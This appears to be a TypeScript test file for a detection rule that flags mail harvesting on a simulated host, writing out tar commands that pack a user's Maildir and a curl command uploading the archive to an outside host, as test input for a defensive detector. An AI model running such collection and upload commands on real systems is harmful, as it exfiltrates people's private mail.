import assert from 'node:assert/strict';
import { test } from 'node:test';
import { HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';

const HOME = '/home/clerk';

/** What is said of mail on a host that records executions and store reads, and no file being written. */
async function said(user: string, pack: string, upload: string): Promise<string[]> {
  const log = new HostLog();
  const { path } = log.deliver({ to: 'clerk' });
  log.wait(MINUTE);
  const shell = log.shell(user);
  shell.run(pack).read(path);
  log.wait(MINUTE);
  shell.run(upload);
  const alerts = await scanLog(log);
  return alerts.filter(alert => alert.analytic === 'AN1310').map(alert => alert.severity);
}

const TALK = '/usr/bin/curl -s -T slides/talk.odp http://files.example.net/talks/';

test('own mail packed into a named file, and another file uploaded: other work', async () => {
  assert.deepEqual(await said('clerk', `/bin/tar -C ${HOME} -czf /mnt/disk/mail.tgz Maildir`, TALK), []);
  assert.deepEqual(await said('clerk', `/bin/tar czf /mnt/disk/mail.tgz ${HOME}/Maildir`, TALK), []);
});

test('the packed file itself, mail put where no word says, or mail of somebody else: a harvest', async () => {
  const whole = '/usr/bin/curl -s -T /mnt/disk/mail.tgz http://files.example.net/talks/';
  const tar = `/bin/tar -C ${HOME} -czf /mnt/disk/mail.tgz Maildir`;
  for (const [user, pack, upload] of [
    ['clerk', tar, whole],
    ['clerk', `/bin/cat ${HOME}/Maildir/cur/1`, TALK],
    ['clerk', `/bin/tar -xf ${HOME}/Maildir/x.tar`, TALK],
    ['dev', tar, TALK],
  ] as const)
    assert.notDeepEqual(await said(user, pack, upload), [], `${user}: ${pack}; ${upload}`);
});
